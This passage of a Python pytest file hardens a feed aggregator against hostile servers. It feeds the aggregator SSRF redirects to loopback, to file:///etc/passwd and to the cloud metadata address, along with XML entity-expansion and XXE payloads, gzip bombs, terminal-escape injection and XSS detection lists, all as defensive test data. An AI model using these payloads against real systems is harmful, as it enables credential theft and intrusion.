        "/to-short-dotted": redirect_to(f"http://127.1:{port}/ok"),
        "/to-other-port": redirect_to(f"http://127.0.0.1:{port}/ok"),
        "/to-metadata": redirect_to("http://169.254.169.254/latest/meta-data"),
        "/to-file": redirect_to("file:///etc/passwd"),
        "/to-ftp": redirect_to("ftp://example.org/x"),
        "/billion-laughs": static(billion_laughs()),
        "/quadratic-blowup": static(quadratic_blowup()),
        "/billion-laughs-late": static(after_a_long_prolog(billion_laughs())),
        "/quadratic-blowup-late": static(after_a_long_prolog(quadratic_blowup())),
        "/quadratic-blowup-bracket": static(
            quadratic_blowup().replace(b"<!DOCTYPE rss [\n", b"<!DOCTYPE rss [\n<!-- ] -->\n", 1)
        ),
        "/xxe": static(xxe(secret)),
        "/xxe-oob": static(xxe_out_of_band(other.url, secret)),
        "/unescaped-amp": static(UNESCAPED_AMP),
        "/truncated": static(TRUNCATED),
        "/invalid-utf8": static(INVALID_UTF8),
        "/bad-char-refs": static(BAD_CHAR_REFS),
        "/control-links": static(CONTROL_LINKS),
        "/unwritable-json": static(UNWRITABLE_JSON, "application/feed+json"),
        "/html-page": static(HTML_PAGE, "text/html; charset=utf-8"),
        "/odd-values": static(ODD_VALUES),
        "/odd-values-feedparser": static(ODD_VALUES_FEEDPARSER),
        "/shift-jis": static(SHIFT_JIS, "application/rss+xml"),
        "/deep-divs": static(DEEP_DIVS),
        "/huge-json-number": static(HUGE_JSON_NUMBER, "application/feed+json"),
        "/bracket-json": static(BRACKET_JSON, "application/feed+json"),
        "/empty": static(b""),
        "/hostile-rss": static(HOSTILE_RSS),
        "/hostile-atom": static(HOSTILE_ATOM, "application/atom+xml; charset=utf-8"),
        "/hostile-json": static(HOSTILE_JSON, "application/feed+json"),
    }
    for hop in range(12):  # /chain/0 -> /chain/1 -> ... -> /chain/12 (= /ok)
        routes[f"/chain/{hop}"] = redirect_to(f"/chain/{hop + 1}")
    routes["/chain/12"] = static(
        HEALTHY.replace(b"Healthy item", b"Chained item").replace(b"healthy.", b"chained.")
    )
    for hop in range(5):  # five hops (the limit), each answered after 1.8 s, then a feed
        routes[f"/slow-hops/{hop}"] = redirect_to(f"/slow-hops/{hop + 1}", delay=1.8)
    routes["/slow-hops/5"] = static(BAD_FEED)
    hostile = HostileServer(routes=routes).start()
    # A loopback port nobody listens on: bound, then closed at once.
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        closed_port = probe.getsockname()[1]
    try:
        yield Bed(
            hostile=hostile,
            other=other,
            secret=secret,
            marker=marker,
            site=site,
            closed_port=closed_port,
        )
    finally:
        hostile.stop()
        other.stop()


# --------------------------------------------------------------------------
# Running a build


def _own_peak(folder: Path) -> float:
    report = folder / "peak-kib.txt"
    return int(report.read_text()) / 1024 if report.exists() else 0.0


@dataclass
class Build:
    code: int
    seconds: float
    peak_mb: float
    stdout: str
    stderr: str
    killed: bool
    connects: list[str]
    folder: Path

    @property
    def output(self) -> Path:
        return self.folder / "output"

    def failure_lines(self, source: str) -> list[str]:
        """The final report's lines for a failed source (`FAILED source 'x': …`)."""
        return [
            line
            for line in self.stderr.splitlines()
            if line.startswith(f"FAILED source '{source}'")
        ]


def run_build(folder: Path, bed: Bed, bad_url: str, limit: float) -> Build:
    sources = (
        f"  - name: good\n    type: feed\n    url: {bed.hostile.url}/ok\n"
        f"    timeout: {HEALTHY_TIMEOUT:g}\n"
        f"  - name: bad\n    type: feed\n    url: {bad_url}\n    timeout: {TIMEOUT:g}\n"
    )
    config = write_config(folder, sources, BASE_CONFIG)
    connect_log = folder / "non-loopback-connects.log"
    env = {
        **os.environ,
        "PYTHONPATH": f"{bed.site}{os.pathsep}{ROOT}",
        "HOSTILE_CONNECT_LOG": str(connect_log),
        "HOSTILE_PEAK_LOG": str(folder / "peak-kib.txt"),
    }
    out_path, err_path = folder / "stdout.txt", folder / "stderr.txt"
    killed = False
    with out_path.open("wb") as out, err_path.open("wb") as err:
        started = time.monotonic()
        process = subprocess.Popen(
            [sys.executable, "-m", "feeds", "build", "-c", str(config)],
            cwd=folder,
            env=env,
            stdin=subprocess.DEVNULL,
            stdout=out,
            stderr=err,
        )
        while True:
            pid, status, usage = os.wait4(process.pid, os.WNOHANG)
            if pid:
                break
            if time.monotonic() - started > limit + HARD_EXTRA:
                process.kill()
                pid, status, usage = os.wait4(process.pid, 0)
                killed = True
                break
            time.sleep(0.01)
        seconds = time.monotonic() - started
        process.returncode = os.waitstatus_to_exitcode(status)
    connects = connect_log.read_text().splitlines() if connect_log.exists() else []
    own = _own_peak(folder)
    # A build that ends without running its exit handlers measured pytest's
    # size instead of its own, and passed or failed by that.
    stderr = err_path.read_text(errors="replace")
    assert own or killed, f"the build reported no peak (no exit handler ran):\n{stderr[-2000:]}"
    return Build(
        code=process.returncode,
        seconds=seconds,
        # The build's own VmHWM (see SITECUSTOMIZE); ru_maxrss only for a
        # build that was killed before it could say.
        peak_mb=own or usage.ru_maxrss / 1024,
        stdout=out_path.read_text(errors="replace"),
        stderr=err_path.read_text(errors="replace"),
        killed=killed,
        connects=connects,
        folder=folder,
    )


def atom_titles(build: Build) -> list[str]:
    path = build.output / "all.atom"
    assert path.exists(), f"no all.atom; stderr:\n{build.stderr[-2000:]}"
    parsed = feedparser.parse(path.read_bytes())
    assert not parsed.bozo, f"all.atom is not a clean feed: {parsed.get('bozo_exception')}"
    return [entry.title for entry in parsed.entries]


# --------------------------------------------------------------------------
# The cases


@dataclass(frozen=True)
class Case:
    id: str
    path: str
    #: Exit codes accepted: 1 for a failed source, 0 where the answer is
    #: recoverable and read safely.
    codes: tuple[int, ...] = (1,)
    #: When the source fails: words its stderr line must all contain...
    words: tuple[str, ...] = ()
    #: ... and at least one of these (spellings of one idea).
    any_words: tuple[str, ...] = ()
    #: When the build exits 0: titles of the bad source that must be published.
    bad_titles: tuple[str, ...] = ()
    #: Text no output file may contain (an expansion, a leaked secret).
    never: tuple[str, ...] = ()
    #: Words the failure line must not contain (a misleading reason).
    not_words: tuple[str, ...] = ()
    #: "hostile": `path` on the hostile server; "closed": a loopback port
    #: nobody listens on (listed in allow_private like the others).
    target: str = "hostile"
    slow: bool = False


def case(*args: object, **kwargs: object) -> object:
    made = Case(*args, **kwargs)  # type: ignore[arg-type]
    marks = [pytest.mark.slow] if made.slow else []
    return pytest.param(made, id=made.id, marks=marks)


REFUSED = ("refused",)
CASES = [
    # --- time ---
    case("silent", "/silent", words=("no answer within 2 s",), slow=True),
    case("late", "/late", words=("no answer within 2 s",), slow=True),
    case("trickle", "/trickle", words=("not complete after 2 s",), slow=True),
    case("stall", "/stall", words=("not complete after 2 s",), slow=True),
    case(
        "trickle-headers",
        "/trickle-headers",
        any_words=("no answer within 2 s", "not complete after 2 s"),
        slow=True,
    ),
    case(
        "slow-hops",
        "/slow-hops/0",
        any_words=("no answer within 2 s", "not complete after 2 s"),
        slow=True,
    ),
    case("endless", "/endless", words=("not complete after 2 s",), slow=True),
    case(
        "connection-refused",
        "/feed",
        target="closed",
        any_words=("refused", "connect"),
        not_words=("no answer within",),
    ),
    case("reset", "/reset", words=("connection",), any_words=("reset", "broken")),
    case(
        "short-body",
        "/short",
        words=("connection",),
        any_words=("incomplete", "broken", "expected"),
    ),
    case("hang-up", "/hang-up", words=("connection", "closed", "without response")),
    case("cut-gzip", "/cut-gzip", words=("cut short",)),
    # --- size ---
    case("huge-length", "/huge-length", words=("10000000000", "over the limit")),
    case("gzip-bomb", "/gzip-bomb", words=("over the limit",)),
    # --- status ---
    case("http-500", "/500", words=("HTTP 500",)),
    case("http-503-retry-after", "/503", words=("HTTP 503", "retry after 120")),
    case("http-429-retry-after", "/429", words=("HTTP 429", "retry after 60")),
    case(
        "http-429-retry-after-a-year",
        "/429-year",
        words=("retry after 31536000 s", "asked again in a day at most"),
    ),
    case(
        "http-429-retry-after-5000-digits",
        "/429-endless",
        words=("retry after more than a day", "asked again in a day at most"),
        not_words=("inf s",),
    ),
    # --- redirects ---
    case("redirect-loop", "/loop", words=("redirects",)),
    case("redirect-chain-12", "/chain/0", words=("more than 5 redirects",)),
    case("redirect-chain-5", "/chain/7", codes=(0,), bad_titles=("Chained item one",)),
    case("to-localhost", "/to-localhost", words=REFUSED),
    case("to-ipv6-loopback", "/to-ipv6-loopback", words=REFUSED),
    case("to-ipv4-mapped", "/to-ipv4-mapped", words=REFUSED, any_words=("loopback",)),
    case("to-decimal-2130706433", "/to-decimal", words=REFUSED, any_words=("loopback",)),
    case("to-hex-0x7f000001", "/to-hex", words=REFUSED, any_words=("loopback",)),
    case("to-127.1", "/to-short-dotted", words=REFUSED, any_words=("loopback",)),
    case(
        "to-other-loopback-port", "/to-other-port", words=("refused", "loopback", "allow_private")
    ),
    case("to-169.254.169.254", "/to-metadata", words=REFUSED, any_words=("link-local",)),
    case("to-file", "/to-file", words=REFUSED, any_words=("non-http", "file")),
    case("to-ftp", "/to-ftp", words=REFUSED, any_words=("non-http", "ftp")),
    # --- XML ---
    case(
        "billion-laughs",
        "/billion-laughs",
        codes=(0, 1),
        any_words=("not a feed", "entit"),
        bad_titles=("Laugh-free item",),
        never=("lol" * 4,),
    ),
    case(
        "quadratic-blowup",
        "/quadratic-blowup",
        codes=(0, 1),
        any_words=("not a feed", "entit"),
        bad_titles=("Blow-up-free item",),
        never=("x" * 20_000,),
    ),
    case(
        "billion-laughs-after-a-long-prolog",
        "/billion-laughs-late",
        codes=(0, 1),
        any_words=("not a feed", "entit"),
        bad_titles=("Laugh-free item",),
        never=("lol" * 4,),
    ),
    case(
        "quadratic-blowup-after-a-long-prolog",
        "/quadratic-blowup-late",
        codes=(0, 1),
        any_words=("not a feed", "entit"),
        bad_titles=("Blow-up-free item",),
        never=("x" * 20_000,),
    ),
    case(
        # A "]" in a comment of the subset does not end it.
        "quadratic-blowup-behind-a-bracket",
        "/quadratic-blowup-bracket",
        codes=(0, 1),
        any_words=("not a feed", "entit"),
        bad_titles=("Blow-up-free item",),
        never=("x" * 20_000,),
    ),
    case(
        "xxe-file",
        "/xxe",
        codes=(0, 1),
        any_words=("not a feed", "entit"),
        bad_titles=("XXE-free item",),
    ),
    case(
        "xxe-out-of-band",
        "/xxe-oob",
        codes=(0, 1),
        any_words=("not a feed", "entit"),
        bad_titles=("OOB-free item",),
    ),
    case(
        "unescaped-amp", "/unescaped-amp", codes=(0,), bad_titles=("Salt & pepper", "Rock & roll")
    ),
    case(
        "truncated-xml", "/truncated", codes=(0,), bad_titles=("Whole item one", "Whole item two")
    ),
    case("invalid-utf8", "/invalid-utf8", codes=(0,), bad_titles=("Broken bytes two",)),
    # --- values that raised out of the build (found by fuzzing) ---
    case("odd-values", "/odd-values", codes=(0,), bad_titles=ODD_VALUE_TITLES),
    case(
        "odd-values-feedparser",
        "/odd-values-feedparser",
        codes=(0,),
        bad_titles=(*ODD_VALUE_TITLES, "Calendar end", "Control in picture type"),
    ),
    case("shift-jis-declared", "/shift-jis", codes=(0,), bad_titles=("日本のニュース",)),
    case("deep-divs", "/deep-divs", codes=(0,), bad_titles=("Deep blocks", "Shallow item")),
    case("huge-json-number", "/huge-json-number", words=("invalid JSON", "4300 digits")),
    case(
        "brackets-in-json",
        "/bracket-json",
        codes=(0,),
        bad_titles=("JSON bracket link", "JSON bracket image", "JSON bad port"),
    ),
    case(
        "bad-char-refs",
        "/bad-char-refs",
        codes=(0,),
        bad_titles=("Surrogate \ufffd reference", "Huge \ufffd reference", "References two"),
    ),
    case(
        "control-chars-in-links",
        "/control-links",
        codes=(0,),
        bad_titles=(
            "Control in link",
            "Control in guid",
            "Control in plain guid",
            "Control-free item",
        ),
    ),
    case(
        "unwritable-chars-in-json-ids",
        "/unwritable-json",
        codes=(0,),
        bad_titles=(
            "Lone guid",
            "Lone URI guid",
            "Lone link",
            "JSON control link",
            "Non-character guid",
            "Control in image",
            "JSON clean item",
        ),
    ),
    # --- what the standard library cannot take in a server's answer ---
    case("cut-headers", "/cut-headers", words=("no body", "closed")),
    case("early-hints", "/early-hints", codes=(0,), bad_titles=("Bad item one", "Bad item two")),
    case("header-without-colon", "/header-without-colon", codes=(0,), bad_titles=("Bad item one",)),
    case("max-age-huge", "/max-age-huge", codes=(0,), bad_titles=("Bad item one",)),
    case("max-age-5000-digits", "/max-age-5000-digits", codes=(0,), bad_titles=("Bad item one",)),
    case("expires-9999", "/expires-9999", codes=(0,), bad_titles=("Bad item one",)),
    case("length-superscript", "/length-superscript", codes=(0,), bad_titles=("Bad item one",)),
    case("length-5000-digits", "/length-5000-digits", words=("over the limit",)),
    case("length-leading-zeros", "/length-leading-zeros", codes=(0,), bad_titles=("Bad item one",)),
    # A body came (a gzip stream of nothing): not "no body", but no feed.
    case("empty-gzip", "/empty-gzip", words=("not a feed",), not_words=("no body",)),
    # feedparser cannot read the body under that label either: a failure
    # that says so (it read as a bug in feeds, from the fast path's check).
    case("charset-nul", "/charset-nul", words=("null character",), not_words=("bug",)),
    case("charset-rot13", "/charset-rot13", codes=(0,), bad_titles=("Bad item one",)),
    case("503-superscript", "/503-superscript", words=("HTTP 503",), not_words=("bug",)),
    case("to-unreadable", "/to-unreadable", words=("cannot be read",), not_words=("bug",)),
    case("to-bracketed-ipv4", "/to-bracketed-ipv4", words=("cannot be read",), not_words=("bug",)),
    case("500-escapes", "/500-escapes", words=("HTTP 500", "\\x1b]0;owned\\x07\\x1b[2JCleared")),
    # A permanent redirect to an address of escapes, logged as it is followed.
    case("moved-escapes", "/moved-escapes", codes=(0, 1)),
    case("html-page", "/html-page", words=("not a feed", "HTML")),
    case("empty-body", "/empty", words=("not a feed",)),
]


@pytest.mark.parametrize("hostile_case", CASES)
def test_a_misbehaving_source_fails_alone_quickly_and_cheaply(
    hostile_case: Case, bed: Bed, tmp_path: Path
) -> None:
    c = hostile_case
    note = ""
    if c.id == "to-ipv6-loopback" and not bed.other.ipv6:
        # No IPv6 loopback here: the connect fails before the guard is asked.
        note = "no IPv6 loopback here: only 'fails, never fetched' is checked"
        c = replace(c, words=(), any_words=())
    other_hits = bed.other.hit_count("/ok")
    limit = TIMEOUT + MARGIN
    base = bed.hostile.url if c.target == "hostile" else f"http://127.0.0.1:{bed.closed_port}"
    build = run_build(tmp_path, bed, base + c.path, limit)
    sys.stderr.write(
        f"[hostile] {c.id}: {build.seconds:.2f} s, {build.peak_mb:.0f} MB, exit {build.code}"
        f" | {' '.join(build.failure_lines('bad'))}\n"
    )
    report = f"exit {build.code} after {build.seconds:.1f} s; stderr:\n{build.stderr[-3000:]}"

    if c.id == "to-169.254.169.254" and build.connects and not build.killed:
        # feeds.guard checks the address a connection reached, so the
        # connect to 169.254.169.254 is attempted first (our harness
        # refused it before it left the machine).
        pytest.skip(
            "feeds attempts a connect to 169.254.169.254 before refusing it "
            f"(harness blocked: {build.connects}); the refusal is post-connect"
        )

    assert not build.killed, f"build still running after {limit + HARD_EXTRA:g} s: killed. {report}"
    assert build.seconds <= limit, f"took {build.seconds:.1f} s > {limit:g} s. {report}"
    assert build.peak_mb < PEAK_RSS_MB, f"peak RSS {build.peak_mb:.0f} MB. {report}"
    assert not build.connects, f"tried to connect beyond loopback: {build.connects}"
    assert build.code in c.codes, f"expected exit {c.codes}. {report}"

    lines = build.failure_lines("bad")
    if build.code == 1:
        assert lines, f"stderr does not name source 'bad'. {report}"
        line = " ".join(lines).lower()
        for word in c.words:
            assert word.lower() in line, f"{word!r} not in the failure line. {report}"
        if c.any_words:
            assert any(w.lower() in line for w in c.any_words), (
                f"none of {c.any_words} in the failure line. {report}"
            )
        for word in c.not_words:
            assert word.lower() not in line, f"misleading {word!r} in the failure line. {report}"
    else:
        assert not lines, f"source 'bad' reported as failed on exit 0. {report}"
    # Whatever the server sent is its fault, never a crash of feeds; and
    # nothing of it acts on the terminal that shows the errors.
    assert "traceback" not in build.stderr.lower(), report
    assert "\x1b" not in build.stderr and "\x07" not in build.stderr, report
    assert not build.failure_lines("good"), f"the healthy source failed. {report}"

    titles = atom_titles(build)
    for title in HEALTHY_TITLES:
        assert title in titles, f"healthy item {title!r} missing from all.atom: {titles}"
    if build.code == 0:
        for title in c.bad_titles:
            assert title in titles, f"{title!r} missing from all.atom: {titles}"

    # Nothing of a redirect's target was fetched.
    assert bed.other.hit_count("/ok") == other_hits, "the other loopback port was fetched"
    assert bed.other.hit_count("/evil.dtd") == 0, "an external DTD was fetched"
    assert not any(hit.startswith("/leak") for hit in bed.other.hits), "the secret was sent"
    for text in (bed.marker, *c.never):
        leaked = [p.name for p in _published_files(build) if text.encode() in p.read_bytes()]
        assert not leaked, f"{text[:40]!r}… found in {leaked}"
    if note:
        sys.stderr.write(f"[hostile] {c.id}: {note}\n")


def _published_files(build: Build) -> list[Path]:
    files = sorted(p for p in build.output.iterdir() if p.is_file())
    return files + sorted(build.folder.glob("feeds.db*"))


# --------------------------------------------------------------------------
# Hostile items: nothing executable in any output file


BAD_TAGS = {
    "script",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "style",
    "base",
    "form",
}
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "background",
    "poster",
    "data",
    "cite",
    "longdesc",
    "lowsrc",
    "dynsrc",
    "srcset",
    "codebase",
}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")


def bad_url(value: str) -> bool:
    squeezed = re.sub(r"[\x00-\x20\x7f]+", "", html.unescape(value)).lower()
    return squeezed.startswith(BAD_SCHEMES)


class Executables(HTMLParser):
    """Everything in an HTML document or fragment that could run code."""

    def __init__(self, where: str, allow_head_style: bool = False) -> None:
        super().__init__(convert_charrefs=True)
        self.where = where
        self.found: list[str] = []
        self.allow_head_style = allow_head_style
        self.in_head = False
        self.in_style = False
        self.styles = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        tag = tag.lower()
        if tag == "head":
            self.in_head = True
        elif tag == "body":
            self.in_head = False
        if tag == "style" and self.allow_head_style and self.in_head and not self.styles:
            self.styles += 1  # the index's own stylesheet
            self.in_style = True
        elif tag in BAD_TAGS:
            self.found.append(f"{self.where}: <{tag}> element")
        names = {name.lower(): (value or "") for name, value in attrs}
        if tag == "meta" and names.get("http-equiv", "").lower() == "refresh":
            self.found.append(f"{self.where}: <meta http-equiv=refresh>")
        for name, value in names.items():
            if name.startswith("on"):
                self.found.append(f"{self.where}: <{tag} {name}=…> event handler")
            if name in URL_ATTRIBUTES and bad_url(value):
                self.found.append(f"{self.where}: <{tag} {name}={value!r}>")
            if name == "style" and re.search(r"javascript:|expression\(|url\(", value, re.I):
                self.found.append(f"{self.where}: <{tag} style={value!r}>")

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag: str) -> None:
        if tag.lower() == "head":
            self.in_head = False
        if tag.lower() == "style":
            self.in_style = False

    def handle_data(self, data: str) -> None:
        if self.in_style and re.search(r"alert|javascript:|expression\(|@import", data, re.I):
            self.found.append(f"{self.where}: hostile text in the index's <style>")


def executables_in_html(text: str, where: str, document: bool = False) -> list[str]:
    parser = Executables(where, allow_head_style=document)
    parser.feed(text)
    parser.close()
    return parser.found


ATOM = "{http://www.w3.org/2005/Atom}"


def executables_in_xhtml(container: ET.Element, where: str) -> list[str]:
    """An Atom xhtml construct: its elements, re-serialised as plain HTML
    (namespace prefixes dropped) and checked like any fragment."""

    def plain(element: ET.Element) -> str:
        tag = element.tag.rsplit("}", 1)[-1]
        attrs = "".join(
            f' {name.rsplit("}", 1)[-1]}="{html.escape(value)}"'
            for name, value in element.attrib.items()
        )
        inner = html.escape(element.text or "") + "".join(
            plain(child) + html.escape(child.tail or "") for child in element
        )
        return f"<{tag}{attrs}>{inner}</{tag}>"

    return executables_in_html("".join(plain(child) for child in container), where)


def executables_in_output(output: Path) -> tuple[list[str], int]:
    """(problems, number of HTML fragments looked at) over every file."""
    found: list[str] = []
    fragments = 0
    names = sorted(p.name for p in output.iterdir() if p.is_file())
    assert "index.html" in names and "feeds.opml" in names and "all.atom" in names, names
    for name in names:
        path = output / name
        text = path.read_text(encoding="utf-8")
        if name.endswith(".atom"):
            root = ET.fromstring(path.read_bytes())
            for element in root.iter():
                where = f"{name} {element.tag.removeprefix(ATOM)}"
                for attr in ("href", "src", "uri"):
                    if bad_url(element.get(attr, "")):
                        found.append(f"{where}: {attr}={element.get(attr)!r}")
                if element.tag in (f"{ATOM}uri", f"{ATOM}icon", f"{ATOM}logo") and bad_url(
                    element.text or ""
                ):
                    found.append(f"{where}: {element.text!r}")
                kind = element.get("type", "text")
                if element.tag.removeprefix(ATOM) in (
                    "content",
                    "summary",
                    "title",
                    "subtitle",
                    "rights",
                ):
                    if kind == "html":
                        fragments += 1
                        found += executables_in_html(element.text or "", where)
                    elif kind == "xhtml":
                        fragments += 1
                        found += executables_in_xhtml(element, where)
        elif name.endswith(".rss"):
            root = ET.fromstring(path.read_bytes())
            for element in root.iter():
                tag = element.tag
                where = f"{name} {tag}"
                if tag in ("description", "{http://purl.org/rss/1.0/modules/content/}encoded"):
                    fragments += 1
                    found += executables_in_html(element.text or "", where)
                if tag in ("link", "comments", "docs") and bad_url(element.text or ""):
                    found.append(f"{where}: {element.text!r}")
                if (
                    tag == "guid"
                    and element.get("isPermaLink", "true") == "true"
                    and bad_url(element.text or "")
                ):
                    found.append(f"{where} (permalink): {element.text!r}")
                for attr in ("href", "url"):
                    if bad_url(element.get(attr, "")):
                        found.append(f"{where}: {attr}={element.get(attr)!r}")
        elif name.endswith(".json"):
            document = json.loads(text)
            for key in ("home_page_url", "feed_url", "icon", "favicon"):
                if bad_url(str(document.get(key, ""))):
                    found.append(f"{name} {key}: {document[key]!r}")
            for entry in document.get("items", []):
                fragments += 1
                found += executables_in_html(entry.get("content_html", ""), f"{name} content_html")
                for key in ("url", "external_url", "image", "banner_image"):
                    if bad_url(str(entry.get(key, ""))):
                        found.append(f"{name} item {key}: {entry[key]!r}")
        elif name.endswith(".opml"):
            root = ET.fromstring(path.read_bytes())
            for element in root.iter("outline"):
                for attr in ("xmlUrl", "htmlUrl", "url"):
                    if bad_url(element.get(attr, "")):
                        found.append(f"{name}: {attr}={element.get(attr)!r}")
        elif name.endswith(".html"):
            fragments += 1
            found += executables_in_html(text, name, document=True)
    return found, fragments


HOSTILE_CASES = [
    pytest.param(
        "/hostile-rss",
        ("Script title", "Entity title", "CDATA split", "Control references"),
        id="rss",
    ),
    pytest.param("/hostile-atom", ("Atom html title", "Atom text title"), id="atom"),
    pytest.param("/hostile-json", ("JSON title", "JSON second"), id="json-feed"),
]


@pytest.mark.parametrize(("path", "titles"), HOSTILE_CASES)
def test_hostile_items_publish_nothing_executable(
    path: str, titles: tuple[str, ...], bed: Bed, tmp_path: Path
) -> None:
    limit = TIMEOUT + MARGIN
    build = run_build(tmp_path, bed, bed.hostile.url + path, limit)
    sys.stderr.write(
        f"[hostile] items {path}: {build.seconds:.2f} s, {build.peak_mb:.0f} MB, "
        f"exit {build.code}\n"
    )
    report = f"exit {build.code} after {build.seconds:.1f} s; stderr:\n{build.stderr[-3000:]}"
    assert not build.killed and build.seconds <= limit, report
    assert build.peak_mb < PEAK_RSS_MB, report
    assert not build.connects, build.connects
    assert build.code == 0, f"hostile items are readable: expected exit 0. {report}"

    published = atom_titles(build)
    for title in titles:
        assert any(title in seen for seen in published), f"{title!r} not in {published}"
    for title in HEALTHY_TITLES:
        assert title in published

    problems, fragments = executables_in_output(build.output)
    assert fragments >= 10, f"only {fragments} HTML fragments examined"
    assert not problems, "executable constructs published:\n" + "\n".join(problems)
    # The sanitiser kept the harmless part.
    assert KEPT in (build.output / "all.atom").read_text(encoding="utf-8")
    # No executable marker text left as markup in the index either.
    index = (build.output / "index.html").read_text(encoding="utf-8")
    assert "<script" not in index.lower()


def test_the_checker_catches_what_it_must() -> None:
    """The HTML checker itself: every construct it must find, it finds."""
    for bit in XSS_BITS[:-1]:
        if bit.startswith("<link"):
            continue  # a stylesheet link is inert in a feed reader; not checked
        assert executables_in_html(bit, "probe"), bit
    assert executables_in_html('<a href="JaVaScRiPt:%20alert(1)">x</a>', "probe")
    assert executables_in_html("<meta http-equiv=Refresh content=0>", "probe")
    assert not executables_in_html("&lt;script&gt;alert(1)&lt;/script&gt;", "probe")
    assert not executables_in_html('<p><a href="http://ok.example/">ok</a></p>', "probe")


def test_the_harness_blocks_connects_beyond_loopback(tmp_path: Path, bed: Bed) -> None:
    """The build's sitecustomize refuses and logs a non-loopback connect."""
    log = tmp_path / "log"
    env = {
        **os.environ,
        "PYTHONPATH": f"{bed.site}{os.pathsep}{ROOT}",
        "HOSTILE_CONNECT_LOG": str(log),
    }
    code = (
        "import socket\n"
        "s = socket.socket()\n"
        "try:\n"
        "    s.connect(('192.0.2.1', 9))\n"
        "except ConnectionRefusedError as e:\n"
        "    print('blocked', e)\n"
        "finally:\n"
        "    s.close()\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", code], env=env, capture_output=True, text=True, timeout=30
    )
    assert "blocked" in done.stdout, done.stderr
    assert log.read_text().split() == ["192.0.2.1", "9"]


def test_loopback_spellings_resolve_to_loopback() -> None:
    """The redirect spellings really name loopback on this machine, so a
    refusal is the guard's doing, not a resolver's."""
    for host in ("localhost", "2130706433", "0x7f000001", "127.1"):
        infos = socket.getaddrinfo(host, 80, type=socket.SOCK_STREAM)
        assert infos, host
        for info in infos:
            address = ipaddress.ip_address(info[4][0])
            assert address.is_loopback, (host, address)
